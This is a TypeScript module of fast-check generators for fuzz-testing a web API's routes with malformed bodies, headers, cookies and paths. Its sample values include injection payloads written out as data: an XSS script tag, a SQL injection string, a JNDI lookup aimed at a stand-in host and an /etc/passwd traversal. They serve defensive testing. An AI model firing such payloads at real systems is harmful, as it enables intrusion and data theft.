import * as contracts from '@meridian/contracts';
import fc from 'fast-check';
import { z } from 'zod';
import { DEMO_ACCOUNTS, DEMO_PASSWORD } from '../db/demo-accounts';

/**
 * Generators for the API fuzz test (fuzz.test.ts): requests built from the app's own route table,
 * as plain data (so a failing one can be printed and replayed), and the checks every answer must
 * pass whatever was sent.
 */

/** One line of Hono's `app.routes`. */
export interface RouteEntry {
  method: string;
  path: string;
}

/** A place to aim requests at: a route (its method and path pattern) or a middleware prefix (`ALL /x/*`). */
export interface FuzzTarget {
  method: string;
  pattern: string;
  /** A route a handler answers (not a prefix that only middleware covers). */
  isRoute: boolean;
}

/** The app's route table as targets: each method + path once, in table order. */
export function routeTargets(routes: readonly RouteEntry[]): FuzzTarget[] {
  const seen = new Set<string>();
  const out: FuzzTarget[] = [];
  for (const { method, path } of routes) {
    const key = `${method} ${path}`;
    if (seen.has(key)) continue;
    seen.add(key);
    // `app.use` lines are ALL + a wildcard: worth fuzzing as a prefix, but nothing answers there.
    out.push({ method, pattern: path, isRoute: !(method === 'ALL' && path.endsWith('*')) });
  }
  return out;
}

/** Hono's `:name`, `:name{regex}` and `:name?` placeholders, and `*`. */
const PLACEHOLDER = /:[A-Za-z_$][\w$]*(?:\{(?:[^{}]|\{[^{}]*\})*\})?\??|\*/g;

/** A concrete path: every placeholder replaced by the next of `values` (cycled). */
export function fillPath(pattern: string, values: readonly string[]): string {
  let i = 0;
  return pattern.replace(PLACEHOLDER, () => (values.length === 0 ? 'x' : (values[i++ % values.length] ?? 'x')));
}

// ---- field names and values -------------------------------------------------------------------

/** The fields of one object schema the contracts export. */
export interface ContractShape {
  name: string;
  keys: string[];
}

/**
 * Every object schema the contracts export, request bodies (`…Request`) first: the bodies routes
 * read, so generated bodies reach each handler's validation and logic, routes added later too.
 */
export function contractShapes(): ContractShape[] {
  const shapes: ContractShape[] = [];
  for (const [name, value] of Object.entries(contracts)) {
    // The core class: contracts are zod mini objects (decision 0029), not classic z.ZodObject.
    if (value instanceof z.core.$ZodObject) shapes.push({ name, keys: Object.keys(value._zod.def.shape) });
  }
  const isRequest = (s: ContractShape) => (s.name.endsWith('Request') ? 0 : 1);
  return shapes
    .filter((s) => s.keys.length > 0)
    .sort((a, b) => isRequest(a) - isRequest(b) || a.name.localeCompare(b.name));
}

/** Keys that trip objects used as maps, and near-misses of real names. */
const ODD_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '',
  ' ',
  'a[b]',
  'account[]',
  'a.b',
  '\u0000',
  'ACCOUNT',
  'password ',
  'пароль',
  '😀',
];

const CONTROL_CHARS = [
  ...Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)),
  '\u007f',
  '\u0085',
  '\u009b',
  '\u00a0',
  '\u200b',
  '\u200e',
  '\u2028',
  '\u2029',
  '\u202e',
  '\ufeff',
  '\ufffd',
  '\uffff',
];

/** Plausible values: the demo accounts and password (so logins succeed now and then), tokens, codes. */
const PLAUSIBLE = [
  ...DEMO_ACCOUNTS.map((a) => a.email),
  ...DEMO_ACCOUNTS.flatMap((a) => (a.phone ? [a.phone] : [])),
  DEMO_PASSWORD,
  DEMO_PASSWORD.toUpperCase(),
  'a@b.co',
  'fuzz.user@example.com',
  'UPPER.Case@Example.COM',
  '+44 (20) 7946-0958',
  '+1 555 0100',
  'correct horse battery staple',
  'short',
  '123456',
  '000000',
  '12345',
  '1234567',
  'abcd-efgh-ijkl',
  'A'.repeat(43),
  'Zk3_-'.repeat(9).slice(0, 43),
  'x'.repeat(10),
  'DEMO0001',
  'spring_campaign',
  'ok',
  '',
  ' ',
  '0',
  '-1',
  'true',
  'null',
  'undefined',
  '[object Object]',
  'NaN',
  '1e309',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '${jndi:ldap://x.example/a}',
  '../../etc/passwd',
  '%00',
  '%ZZ',
  '\\',
  '"',
];

const controlText = fc
  .tuple(
    fc.constantFrom(...PLAUSIBLE),
    fc.string({ unit: fc.constantFrom(...CONTROL_CHARS), minLength: 1, maxLength: 8 }),
    fc.boolean(),
  )
  .map(([text, ctrl, before]) => (before ? ctrl + text : text + ctrl));

const loneSurrogates = fc.constantFrom('\ud800', 'a\udfffb', '\udc00\ud800', 'x@\ud83d.example', '\ud83d');

const longText = fc
  .tuple(fc.constantFrom('a', 'é', '😀', '\u0000', '%', '+', '&', '9', ' '), fc.integer({ min: 33, max: 9000 }))
  .map(([unit, n]) => unit.repeat(n));

/** A string a field might hold: plausible, random unicode, control characters, lone surrogates, long. */
export const textValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...PLAUSIBLE) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: controlText },
  { weight: 1, arbitrary: loneSurrogates },
  { weight: 1, arbitrary: longText },
);

/** One arbitrary per field name, built once (building them anew for every case is slow). */
function perName<T>(make: (name: string) => fc.Arbitrary<T>): (name: string) => fc.Arbitrary<T> {
  const made = new Map<string, fc.Arbitrary<T>>();
  return (name) => {
    let arbitrary = made.get(name);
    if (!arbitrary) {
      arbitrary = make(name);
      made.set(name, arbitrary);
    }
    return arbitrary;
  };
}

/** Values that fit a field by its name (valid ones, and near misses), so the checks behind validation are reached too. */
const FITTING: { pattern: RegExp; valid: readonly string[]; invalid: readonly string[] }[] = [
  {
    pattern: /account|email|phone|login/i,
    // The two-factor demo account twice as often, so log-ins hand out challenges.
    valid: [
      ...DEMO_ACCOUNTS.map((a) => a.email),
      ...DEMO_ACCOUNTS.filter((a) => a.totp).map((a) => a.email),
      '+85255501234',
      'fuzz.user@example.com',
      'Fuzz.New@Example.com',
      '+44 (20) 7946-0958',
    ],
    invalid: ['not an address', 'a@b', '@example.com'],
  },
  {
    pattern: /password/i,
    valid: [DEMO_PASSWORD, DEMO_PASSWORD, 'correct horse battery staple 42'],
    invalid: ['password1234', 'short'],
  },
  {
    pattern: /token|challenge/i,
    valid: ['A'.repeat(43), 'Zk3_-'.repeat(9).slice(0, 43)],
    invalid: ['A'.repeat(42), 'A'.repeat(300)],
  },
  {
    pattern: /code/i,
    valid: ['123456', '000000', ' 123456 ', 'abcd-efgh-ijkl', 'ABCD2345EF'],
    invalid: ['12345a', '12345'],
  },
  { pattern: /nick|name/i, valid: ['Satoshi', '  Ada  '], invalid: ['a', 'x'.repeat(33)] },
  { pattern: /ref/i, valid: ['DEMO0001', 'DEMO9999'], invalid: ['a b'] },
  { pattern: /^ch$|channel/i, valid: ['spring_campaign'], invalid: ['a/b'] },
  // The compliance calls (decision 0049).
  {
    pattern: /^(ips|stuns)$/,
    valid: ['81.2.69.160', '192.168.1.2,fe80::1', '2a00:1450:4001:82b::200e,81.2.69.160'],
    invalid: ['10.0.0.1', '127.1', '::ffff:10.0.0.1', '1.2.3.4,,5.6.7.8'],
  },
  {
    pattern: /^type$/,
    valid: ['1', '2', '3', '24h_cool_down_end_reminder', 'limit', 'market'],
    invalid: ['4', 'customer-understand-declaration'],
  },
  { pattern: /^status$/, valid: ['2'], invalid: ['1'] },
  { pattern: /^scene$/, valid: ['user_agreement'], invalid: ['User Agreement', 'privacy_v9'] },
  { pattern: /^locale$/, valid: ['de', 'pt-br', 'ar-dubai'], invalid: ['x'] },
];

const fittingFor = (name: string) => FITTING.find(({ pattern }) => pattern.test(name));

/** A valid value for a field by its name, for a placeholder nothing was handed out for yet. */
export function validValueFor(name: string): string | undefined {
  return fittingFor(name)?.valid[0];
}

/** Every valid value the generator may send for a field (the passwords a reset may have set, say). */
export function validValuesFor(name: string): readonly string[] {
  return [...new Set(fittingFor(name)?.valid ?? [])];
}

/** A fresh address now and then, so sign-ups open new accounts. */
const freshAddress = fc.nat(1_000_000).map((n) => `fuzz.${n}@example.com`);

const fittingValue = perName((name): fc.Arbitrary<string> => {
  const fit = fittingFor(name);
  const slot = SLOT_NAME.test(name) ? [{ weight: 2, arbitrary: fc.constant(slotFor(name)) }] : [];
  return fit
    ? fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom(...fit.valid, ...fit.invalid) },
        { weight: 2, arbitrary: textValue },
        ...slot,
      )
    : fc.oneof({ weight: 5, arbitrary: textValue }, ...slot);
});

// ---- values the API handed out, fed back ----------------------------------------------------------

/**
 * A placeholder for "a value the API handed out under this name" (a token from a message link, a
 * log-in challenge, a recovery code): filled in when the request is built, as the run has them
 * only then. Letters and digits only, so every body encoding leaves it as it is.
 */
const slotFor = (name: string) => `zzSLOTzz${name}zz`;
const SLOT_NAME = /^[A-Za-z0-9]+(?:_[A-Za-z0-9]+)*$/;
const SLOT = /zzSLOTzz([A-Za-z0-9_]+?)zz/g;

/** Values worth sending back: URL-safe text (as tokens, challenges and codes are), any length up to 256. */
const HARVESTABLE = /^[A-Za-z0-9_.~-]{6,256}$/;

/** What the answers handed out, by field name (and the query parameters of the links among them). */
export class Harvest {
  private readonly values = new Map<string, string[]>();

  add(name: string, value: string): void {
    if (!HARVESTABLE.test(value)) return;
    const list = this.values.get(name) ?? [];
    if (list.includes(value)) return;
    list.push(value);
    // The newest few: old tokens are used up or expired anyway.
    if (list.length > 8) list.shift();
    this.values.set(name, list);
  }

  /** Every string under a name in an answer's JSON, and the query parameters of every link. */
  fromAnswer(text: string): void {
    let json: unknown;
    try {
      json = JSON.parse(text);
    } catch {
      return;
    }
    const walk = (value: unknown, name: string, depth: number): void => {
      if (depth > 5) return;
      if (typeof value === 'string') {
        this.add(name, value);
        if (/^https?:\/\//.test(value)) {
          try {
            for (const [key, param] of new URL(value).searchParams) this.add(key, param);
          } catch {
            // Not a URL after all.
          }
        }
      } else if (Array.isArray(value)) {
        for (const item of value) walk(item, name, depth + 1);
      } else if (typeof value === 'object' && value !== null) {
        for (const [key, item] of Object.entries(value)) walk(item, key, depth + 1);
      }
    };
    walk(json, '', 0);
  }

  /** The `pick`-th value kept under `name`, newest first. */
  get(name: string, pick: number): string | undefined {
    const list = this.values.get(name);
    return list && list.length > 0 ? list[list.length - 1 - (pick % list.length)] : undefined;
  }
}

/** The body with its placeholders filled in by `resolve` (left as they are where it has nothing). */
export function fillSlots(bytes: Uint8Array, resolve: (name: string) => string | undefined): Uint8Array {
  const view = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  if (!view.includes('zzSLOTzz')) return bytes;
  // Latin-1 maps bytes to characters one to one, so the rest of the body stays byte for byte.
  const text = view.toString('latin1');
  return Uint8Array.from(
    Buffer.from(
      text.replace(SLOT, (whole, name: string) => resolve(name) ?? whole),
      'latin1',
    ),
  );
}

/** A field name: the contracts' (most of the time) or an odd one. */
function fieldName(known: readonly string[]) {
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...known) },
    { weight: 1, arbitrary: fc.constantFrom(...ODD_KEYS) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  );
}

/** A JSON value as text: mostly strings, else every other JSON type where a string is expected. */
const jsonValueText = perName((name): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 8, arbitrary: fittingValue(name).map((s) => JSON.stringify(s)) },
    {
      weight: 1,
      arbitrary: fc
        .oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }))
        .map((n) => JSON.stringify(n)),
    },
    { weight: 1, arbitrary: fc.constantFrom('1e999', '-0', '12345678901234567890123', '0.1e-400', '123456') },
    { weight: 1, arbitrary: fc.constantFrom('true', 'false', 'null', '{}', '[]', '""') },
    { weight: 1, arbitrary: fc.array(textValue, { maxLength: 3 }).map((a) => JSON.stringify(a)) },
    {
      weight: 1,
      arbitrary: fc.dictionary(fc.string({ maxLength: 6 }), textValue, { maxKeys: 3 }).map((o) => JSON.stringify(o)),
    },
    { weight: 1, arbitrary: fc.integer({ min: 10, max: 3000 }).map((n) => '['.repeat(n) + ']'.repeat(n)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('"\\ud800"', '"\\u0000"', '"a\\u0000b@example.com"', '"\\udfff\\ud800"', '"\\uFFFF"'),
    },
  ),
);

type Pair = [string, string];

/**
 * Fields of a body: mostly one contract schema's fields (each present or not) with values that fit
 * their names, or in another JSON type; sometimes random names; now and then a name twice.
 */
function fieldPairs<T>(
  shapes: readonly ContractShape[],
  value: (name: string) => fc.Arbitrary<T>,
): fc.Arbitrary<[string, T][]> {
  const names = [...new Set(shapes.flatMap((s) => s.keys))];
  const requestShapes = shapes.filter((s) => s.name.endsWith('Request'));
  const fieldsOf = (keys: readonly string[]) =>
    fc
      .tuple(
        ...keys.map((key) =>
          fc.option(
            value(key).map((v): [string, T] => [key, v]),
            { freq: 8 },
          ),
        ),
      )
      .map((pairs) => pairs.filter((p): p is [string, T] => p !== null));
  // Every request field at once fits whichever route it is sent to (schemas drop the rest).
  const allRequestFields = fieldsOf([
    ...new Set((requestShapes.length > 0 ? requestShapes : shapes).flatMap((s) => s.keys)),
  ]);
  const oneSchema = fc
    .constantFrom(...(requestShapes.length > 0 ? requestShapes : shapes))
    .chain((shape) => fieldsOf(shape.keys));
  const schemaFields = fc.oneof({ weight: 2, arbitrary: allRequestFields }, { weight: 1, arbitrary: oneSchema });
  const randomFields = fc.array(
    fieldName(names).chain((name) => value(name).map((v): [string, T] => [name, v])),
    { maxLength: 7 },
  );
  return fc
    .tuple(
      fc.oneof({ weight: 5, arbitrary: schemaFields }, { weight: 1, arbitrary: randomFields }),
      fc.array(
        fieldName(names).chain((name) => value(name).map((v): [string, T] => [name, v])),
        { maxLength: 2 },
      ),
      fc.nat(9),
    )
    .map(([pairs, extra, twice]) => {
      const first = pairs[0];
      // Extra fields 1 time in 3, a repeated name 1 in 10.
      return [...pairs, ...(twice % 3 === 0 ? extra : []), ...(twice === 0 && first ? [first] : [])];
    });
}

// ---- bodies ------------------------------------------------------------------------------------

export interface FuzzBody {
  /** What kind of body this is, for the report. */
  label: string;
  bytes: Uint8Array;
  /** The content type that goes with it (the case may send another). */
  contentType: string | null;
}

const encoder = new TextEncoder();
/** Half of a surrogate pair, alone. */
const LONE = /\p{Surrogate}/u;

/** UTF-8, as `TextEncoder` would, except lone surrogates: kept as the bytes a careless client sends (CESU-8). */
function utf8(text: string): Uint8Array {
  if (!LONE.test(text)) return encoder.encode(text);
  const out: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    const next = text.charCodeAt(i + 1);
    if (unit >= 0xd800 && unit <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      out.push(...encoder.encode(text.slice(i, i + 2)));
      i++;
    } else if (unit >= 0xd800 && unit <= 0xdfff) {
      out.push(0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f));
    } else {
      out.push(...encoder.encode(text[i] ?? ''));
    }
  }
  return Uint8Array.from(out);
}

/** Percent-encoding of the bytes `utf8` gives (so lone surrogates go out as the bytes of one). */
function percentEncode(text: string): string {
  if (!LONE.test(text)) return encodeURIComponent(text);
  let out = '';
  for (const byte of utf8(text))
    out += /[A-Za-z0-9._~-]/.test(String.fromCharCode(byte))
      ? String.fromCharCode(byte)
      : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  return out;
}

/** Text whose surrogates are well formed, as bytes. */
const bytesOf = (text: string) => encoder.encode(text);

function jsonBody(known: readonly ContractShape[]): fc.Arbitrary<FuzzBody> {
  const object = fieldPairs(known, jsonValueText).map((pairs): FuzzBody => ({
    label: 'json object',
    // Built by hand so a name can come twice, as a raw client can send it.
    bytes: utf8(`{${pairs.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
    contentType: 'application/json',
  }));
  const notObject = fc
    .constantFrom('[]', 'null', '1', '"account"', 'true', '[{"account":"a@b.co"}]', '{}', ' {} ', '\ufeff{}')
    .map((text): FuzzBody => ({ label: 'json non-object', bytes: bytesOf(text), contentType: 'application/json' }));
  const malformed = fc
    .oneof(
      fc.constantFrom(
        '',
        ' ',
        '{',
        '{"account":',
        '{"account":"a@b.co",}',
        "{'account':'x'}",
        '{account:1}',
        'NaN',
        '{"a":1}garbage',
        '{"a":"\\x41"}',
        '{"a":"\t"}',
        '/* c */{}',
        'nul',
        '{"a":01}',
      ),
      fc.string({ unit: 'binary', maxLength: 60 }),
      fieldPairs(known, jsonValueText).chain((pairs) =>
        fc.nat().map((cut) => {
          const text = `{${pairs.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`;
          return text.slice(0, cut % Math.max(1, text.length));
        }),
      ),
    )
    .map((text): FuzzBody => ({ label: 'json malformed', bytes: utf8(text), contentType: 'application/json' }));
  return fc.oneof(
    { weight: 5, arbitrary: object },
    { weight: 1, arbitrary: notObject },
    { weight: 2, arbitrary: malformed },
  );
}

/** How form pairs are written: as a browser does, raw, or with broken escapes. */
function encodeForm(pairs: readonly Pair[], style: 'standard' | 'raw' | 'broken'): string {
  if (style === 'standard') return new URLSearchParams(pairs.map(([k, v]): [string, string] => [k, v])).toString();
  if (style === 'raw') return pairs.map(([k, v]) => `${k}=${v}`).join('&');
  const breakers = [
    '%ZZ',
    '%',
    '%F',
    '%FF',
    '%C3',
    '%C3%28',
    '%ED%A0%80',
    '%C0%AF',
    '%00',
    '+',
    ';',
    '==',
    '&&',
    '%E2%82',
  ];
  return pairs
    .map(([k, v], i) => `${percentEncode(k)}=${percentEncode(v)}${breakers[i % breakers.length] ?? ''}`)
    .join('&');
}

function formBody(known: readonly ContractShape[]): fc.Arbitrary<FuzzBody> {
  return fc
    .tuple(
      fieldPairs(known, fittingValue),
      fc.constantFrom('standard', 'standard', 'raw', 'broken'),
      fc.constantFrom('', '', '', '&', '&&', '&=', '&novalue', '&=&'),
    )
    .map(([pairs, style, extra]): FuzzBody => ({
      label: `form ${style}`,
      bytes: utf8(encodeForm(pairs, style) + extra),
      contentType: 'application/x-www-form-urlencoded',
    }));
}

function multipartBody(known: readonly ContractShape[]): fc.Arbitrary<FuzzBody> {
  interface Part {
    name: string;
    value: string;
    file: string | null;
  }
  const part = ([name, value]: [string, string]): fc.Arbitrary<Part> =>
    fc
      .oneof(
        { weight: 6, arbitrary: fc.constant(null) },
        { weight: 1, arbitrary: fc.constantFrom('a.txt', 'évil".txt', '', '../x') },
      )
      .map((file) => ({ name, value, file }));
  const parts: fc.Arbitrary<Part[]> = fieldPairs(known, fittingValue).chain((pairs) =>
    pairs.length === 0 ? fc.constant([]) : fc.tuple(...pairs.map(part)),
  );
  return fc
    .record({
      parts,
      boundary: fc.constantFrom('----fuzzBoundary7MA4YWxk', 'x', 'a'.repeat(70), 'b'.repeat(71), 'sp ace', 'ünïcode'),
      newline: fc.constantFrom('\r\n', '\r\n', '\r\n', '\r\n', '\n'),
      flaw: fc.constantFrom(
        'none',
        'none',
        'none',
        'no-close',
        'no-boundary-param',
        'other-boundary',
        'quoted-boundary',
        'no-disposition',
        'truncated',
        'empty-boundary',
      ),
    })
    .chain((m) =>
      fc.nat().map((cut): FuzzBody => {
        const nl = m.newline;
        const lines: string[] = [];
        for (const p of m.parts) {
          lines.push(`--${m.boundary}`);
          if (m.flaw !== 'no-disposition') {
            const file = p.file === null ? '' : `; filename="${p.file}"`;
            lines.push(`Content-Disposition: form-data; name="${p.name}"${file}`);
          }
          if (p.file !== null) lines.push('Content-Type: text/plain');
          lines.push('', p.value);
        }
        if (m.flaw !== 'no-close') lines.push(`--${m.boundary}--`, '');
        let text = lines.join(nl);
        if (m.flaw === 'truncated') text = text.slice(0, cut % Math.max(1, text.length));
        const params: Record<string, string> = {
          'no-boundary-param': '',
          'other-boundary': '; boundary=not-the-one',
          'quoted-boundary': `; boundary="${m.boundary}"`,
          'empty-boundary': '; boundary=',
        };
        return {
          label: `multipart ${m.flaw}`,
          bytes: utf8(text),
          contentType: `multipart/form-data${params[m.flaw] ?? `; boundary=${m.boundary}`}`,
        };
      }),
    );
}

/** Bytes that are not UTF-8 (or barely), under any content type. */
const rawBytesBody: fc.Arbitrary<FuzzBody> = fc
  .oneof(
    fc.uint8Array({ maxLength: 120 }),
    fc
      .constantFrom(
        [0xff, 0xfe, 0x7b, 0x7d],
        [0xc3],
        [0xed, 0xa0, 0x80],
        [0xc0, 0xaf],
        [0xf8, 0x88, 0x80, 0x80, 0x80],
        [0xfe, 0xff, 0x00, 0x7b, 0x00, 0x7d],
      )
      .map((b) => Uint8Array.from(b)),
    // A valid-looking body with one bad byte inside a value.
    fc
      .constantFrom('{"account":"a@b.co","password":"x', 'account=a%40b.co&password=')
      .map((prefix) =>
        Uint8Array.from([...bytesOf(prefix), 0xff, 0xfe, ...bytesOf(prefix.startsWith('{') ? '"}' : '')]),
      ),
  )
  .chain((bytes) =>
    fc
      .constantFrom('application/json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', null)
      .map((contentType): FuzzBody => ({ label: 'bytes', bytes, contentType })),
  );

/** Larger than the app takes (a 413 is the answer), or just under it with a huge field. */
function bigBody(known: readonly ContractShape[], bodyLimitBytes: number): fc.Arbitrary<FuzzBody> {
  return fc
    .tuple(
      fc.constantFrom(...known.flatMap((s) => s.keys)),
      fc.integer({ min: bodyLimitBytes - 200, max: bodyLimitBytes * 3 }),
      fc.constantFrom('json', 'form', 'multipart', 'text'),
    )
    .map(([name, size, kind]): FuzzBody => {
      const filler = 'a'.repeat(Math.max(0, size - 40));
      const label = size > bodyLimitBytes ? `oversized ${kind}` : `near-limit ${kind}`;
      switch (kind) {
        case 'json':
          return { label, bytes: bytesOf(JSON.stringify({ [name]: filler })), contentType: 'application/json' };
        case 'form':
          return { label, bytes: bytesOf(`${name}=${filler}`), contentType: 'application/x-www-form-urlencoded' };
        case 'multipart':
          return {
            label,
            bytes: bytesOf(`--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${filler}\r\n--x--\r\n`),
            contentType: 'multipart/form-data; boundary=x',
          };
        default:
          return { label, bytes: bytesOf(filler), contentType: 'text/plain' };
      }
    });
}

export function bodyArb(known: readonly ContractShape[], bodyLimitBytes: number): fc.Arbitrary<FuzzBody | null> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(null) },
    { weight: 6, arbitrary: jsonBody(known) },
    { weight: 5, arbitrary: formBody(known) },
    { weight: 2, arbitrary: multipartBody(known) },
    { weight: 1, arbitrary: rawBytesBody },
    { weight: 1, arbitrary: bigBody(known, bodyLimitBytes) },
  );
}

/** Content types a body may be sent with instead of its own. */
const ODD_CONTENT_TYPES = [
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/json;',
  'application/json;;;charset=utf-8;;',
  'application/json; charset="utf-8"; q=0.1',
  'application/jsonx',
  'application/json, text/plain',
  'text/json',
  'application/merge-patch+json',
  'application/x-www-form-urlencoded; charset=iso-8859-1',
  'Application/X-WWW-Form-Urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary="unterminated',
  'multipart/form-data; charset=utf-8; boundary=x; boundary=y',
  'multipart/mixed; boundary=x',
  'text/plain',
  'text/html; charset=utf-8',
  'application/octet-stream',
  'application/xml',
  '*/*',
  '',
  ';',
  '/',
  'application/json; x=\u00ff',
  'application/json\t; charset=utf-8',
];

// ---- whole requests ----------------------------------------------------------------------------

/** How the case treats the csrf double submit (the real pair reaches the handlers). */
export type CsrfMode = 'pair' | 'none' | 'cookie-only' | 'header-only' | 'mismatch' | 'garbage';

export interface FuzzCase {
  /** The target as in the route table, "METHOD /pattern". */
  target: string;
  method: string;
  origin: string;
  /** Path and query, as sent. */
  path: string;
  /** The app that believes proxy headers. */
  proxied: boolean;
  /** Logged in (a demo account's session) or a visitor. */
  member: boolean;
  csrf: CsrfMode;
  /** Garbage for the csrf modes that send some. */
  csrfGarbage: string;
  /** Extra cookies (names and raw values), before or after the real ones. */
  cookies: { name: string; value: string; first: boolean }[];
  headers: Pair[];
  body: FuzzBody | null;
  /** Overrides the body's own content type when set ('' sends an empty one; null sends none). */
  contentType: { value: string | null } | null;
  /** The socket address the server hands the app; null: none (a call inside the process). */
  clientAddress: string | null;
}

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD', 'PROPFIND', 'QUERY', 'M-SEARCH', 'FOO'];

const ORIGINS = [
  'http://localhost',
  'https://www.meridian.example',
  'http://127.0.0.1:8787',
  'http://[::1]:3000',
  'https://xn--bcher-kva.example',
  'http://a.b.c.d.example:65535',
];

const PATH_VALUES = fc.constantFrom(
  '1',
  '0',
  '-1',
  '99999999999999999999',
  'abc',
  '%00',
  '%ZZ',
  '..',
  '%2e%2e',
  'a'.repeat(300),
  '',
  encodeURIComponent('ünï😀'),
  '%F0%9F',
  'x.json',
  '%2F',
);

/** Near-misses of a path: trailing bits, case, encodings, doubled slashes. */
function pathVariant(path: string) {
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant(path) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        `${path}/`,
        `${path}/x`,
        `${path}%00`,
        `${path}..%2f`,
        `${path.toUpperCase()}`,
        `/${path}`,
        `${path};a=b`,
        `${path}%2F`,
        `${path}.json`,
        `${path}/%ZZ`,
      ),
    },
  );
}

/** A query string: absent mostly; else fields with unicode, control characters, NUL, bad escapes. */
const queryArb = fc.oneof(
  { weight: 3, arbitrary: fc.constant('') },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.tuple(fc.string({ unit: 'grapheme', maxLength: 8 }), textValue), { maxLength: 4 })
      .map((pairs) => `?${pairs.map(([k, v]) => `${percentEncode(k)}=${percentEncode(v)}`).join('&')}`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '?',
      '?&&',
      '?a=%ZZ',
      '?a=%00',
      '?a=\u0000b',
      '?a=\u0001\u007f',
      '?ü=😀',
      '?a=1&a=2&a[]=3',
      `?q=${'x'.repeat(6000)}`,
      '?__proto__[x]=1',
      '?%',
    ),
  },
);

/** Garbage that might sit in a cookie or header, including unicode (sent as its UTF-8 bytes). */
const garbageValue = fc.oneof(
  fc.constantFrom(
    '',
    '1',
    'A'.repeat(43),
    'A'.repeat(31),
    'A'.repeat(129),
    'A'.repeat(8000),
    'deleted',
    '""',
    '"quoted"',
    '%ZZ',
    '%E0%A4%A',
    'ü😀',
    'a;b',
    'a=b',
    '\u0000',
    '\t',
    ' x ',
    '\u00ff\u00fe',
  ),
  textValue,
);

/** Header-safe: unicode as its UTF-8 bytes, one per character (what a server parser hands over); no CTLs but tab. */
export function headerSafe(text: string): string {
  const bytes = utf8(text);
  let out = '';
  for (const byte of bytes) if (byte === 9 || (byte >= 0x20 && byte !== 0x7f)) out += String.fromCharCode(byte);
  return out.trim();
}

/** A cookie value: no ; , or whitespace a browser would not send as part of one (else it would be another cookie). */
const cookieSafe = (text: string) => headerSafe(text).replace(/[;\s]/g, '');

const HEADER_NAMES = [
  'x-site-id',
  'x-forwarded-host',
  'x-forwarded-proto',
  'x-forwarded-for',
  'x-real-ip',
  'x-client-country',
  'accept-language',
  'accept',
  'user-agent',
  'origin',
  'referer',
  'if-none-match',
  'if-modified-since',
  'content-encoding',
  'range',
  'authorization',
];

const headerValue = fc.oneof(
  fc.constantFrom(
    '1',
    '71',
    '0',
    '-1',
    '99999',
    '1.5',
    '1e3',
    '0x47',
    ' 71 ',
    'NaN',
    'Infinity',
    'https',
    'http, https',
    'HTTPS',
    '*',
    'W/"x"',
    'gzip',
    'bytes=0-1',
    'Basic Og==',
    'localhost:99999',
    '[::1]',
    'evil.example',
    'hk.meridian.example',
    '1.2.3.4, 5.6.7.8',
    'unknown',
    'CU',
    'zz',
  ),
  garbageValue,
);

const COOKIE_NAMES = [
  'csrftoken',
  'meridian_session',
  'uid',
  'nickname',
  'lang',
  'theme',
  '__proto__',
  'a',
  'ü',
  'csrfToken',
  'session',
];

export interface CaseOptions {
  known: readonly ContractShape[];
  bodyLimitBytes: number;
}

/** The cases for one target. */
export function caseArb(target: FuzzTarget, options: CaseOptions): fc.Arbitrary<FuzzCase> {
  // Two in seven cases are a well-behaved client's, so the handlers' own logic gets exercised too.
  return fc.oneof(
    { weight: 5, arbitrary: wildCase(target, options) },
    { weight: 2, arbitrary: cleanCase(target, options) },
  );
}

/** A valid value for a field, or one the API handed out earlier: no garbage. */
const cleanValue = perName((name): fc.Arbitrary<string> => {
  const fit = fittingFor(name);
  const slot = SLOT_NAME.test(name) ? [{ weight: 2, arbitrary: fc.constant(slotFor(name)) }] : [];
  const fresh = fit && fit.valid.some((v) => v.includes('@')) ? [{ weight: 1, arbitrary: freshAddress }] : [];
  return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...(fit ? fit.valid : PLAUSIBLE)) }, ...fresh, ...slot);
});

/** The right method, the csrf pair, a well-formed body of plausible fields; nothing odd in headers or cookies. */
function cleanCase(target: FuzzTarget, options: CaseOptions): fc.Arbitrary<FuzzCase> {
  const requestShapes = options.known.filter((s) => s.name.endsWith('Request'));
  const names = [...new Set((requestShapes.length > 0 ? requestShapes : options.known).flatMap((s) => s.keys))];
  const fields = fc
    .tuple(
      ...names.map((name) =>
        fc.option(
          cleanValue(name).map((v): Pair => [name, v]),
          { freq: 6 },
        ),
      ),
    )
    .map((pairs) => pairs.filter((p): p is Pair => p !== null));
  const body = fc.tuple(fields, fc.boolean()).map(([pairs, json]): FuzzBody =>
    json
      ? {
          label: 'clean json',
          bytes: utf8(JSON.stringify(Object.fromEntries(pairs))),
          contentType: 'application/json',
        }
      : {
          label: 'clean form',
          bytes: utf8(encodeForm(pairs, 'standard')),
          contentType: 'application/x-www-form-urlencoded',
        },
  );
  return fc
    .record({
